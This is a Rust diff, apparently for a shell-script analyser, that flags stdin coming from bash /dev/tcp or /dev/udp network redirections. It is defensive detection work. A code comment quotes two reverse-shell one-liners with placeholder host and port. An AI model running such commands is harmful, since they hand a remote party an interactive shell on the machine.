@@ -82,7 +82,11 @@ pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
                 Producer::Literal(word.value.clone())
             }
         }
+        Stdin::File(file) if is_network_path(&file.value) => Producer::Network(file.value.clone()),
         Stdin::File(_) => Producer::File,
+        // `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p; sh <&3`:
+        // a line that opens a connection may hand it to the shell's stdin.
+        Stdin::Inherited if opens_network(script) => Producer::Network("/dev/tcp".into()),
         Stdin::Inherited => Producer::Dynamic,
         Stdin::Pipe(range) => {
             let mut literal = String::new();
@@ -128,6 +132,19 @@ pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
             verdict.unwrap_or(Producer::Literal(literal))
         }
     }
+}
+
+/// `/dev/tcp/HOST/PORT` or `/dev/udp/…`: bash opens a connection.
+pub fn is_network_path(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether any command of the line redirects to or from the network.
+fn opens_network(script: &Script) -> bool {
+    script.commands.iter().any(|c| {
+        c.redirects.iter().any(|r| is_network_path(&r.target.value))
+            || matches!(&c.stdin, Stdin::File(f) if is_network_path(&f.value))
+    })
 }
 
 /// What a word's substitutions run: the network, a decoder, or something
